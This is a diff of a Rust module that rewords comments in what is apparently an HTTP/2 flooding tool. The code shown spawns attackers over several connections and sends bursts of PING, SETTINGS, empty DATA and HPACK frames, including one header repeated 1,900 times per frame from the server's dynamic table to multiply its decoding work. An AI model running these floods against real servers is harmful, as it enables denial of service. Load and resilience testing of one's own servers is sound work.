@@ -1,4 +1,4 @@
-//! Floods of frames that cost their sender little.
+//! Floods of frames that are cheap to send.
 
 use std::{io, net::SocketAddr};
 
@@ -27,11 +27,11 @@ pub(super) type Burst = fn(&mut Raw, &mut State);
 pub(super) struct State {
     /// The stream that is flooded.
     stream: Option<u32>,
-    /// Whether the server remembers the headers that are referred to.
+    /// Whether the server has the indexed headers in its dynamic table.
     taught: bool,
 }
 
-/// Floods on a few connections, and connects anew when the server hangs up.
+/// Floods on a few connections, and reconnects when the server closes one.
 pub(super) fn run(attackers: &mut Attackers, address: SocketAddr, burst: Burst) {
     for _ in 0..CONNECTIONS {
         attackers.spawn(async move {
@@ -79,7 +79,7 @@ pub(super) fn ping(raw: &mut Raw, _: &mut State) {
 }
 
 pub(super) fn settings(raw: &mut Raw, _: &mut State) {
-    // Another window each time, so that every stream has to be looked at.
+    // Another window each time, so that the server has to visit every stream.
     for window in 0..BURST {
         let mut setting = 4_u16.to_be_bytes().to_vec();
         setting.extend(u32::try_from(window).unwrap_or(0).to_be_bytes());
@@ -108,7 +108,7 @@ pub(super) fn empty_data(raw: &mut Raw, state: &mut State) {
     }
 }
 
-/// Calls that wait, and whose headers refer to one small header as often as the server takes it.
+/// Makes calls whose headers refer to one indexed header as often as the server accepts.
 pub(super) fn hpack(raw: &mut Raw, state: &mut State) {
     for _ in 0..BURST {
         let stream = raw.stream();
@@ -116,7 +116,7 @@ pub(super) fn hpack(raw: &mut Raw, state: &mut State) {
         if !std::mem::replace(&mut state.taught, true) {
             remembered(&mut headers, "x", "");
         }
-        // The newest header that is remembered, which is entry 62. It counts for 33 bytes.
+        // The newest entry of the dynamic table is 62. It counts for 33 bytes.
         headers.extend([0x80 + 62; 1_900]);
         raw.frame(HEADERS, END_HEADERS, stream, &headers);
     }
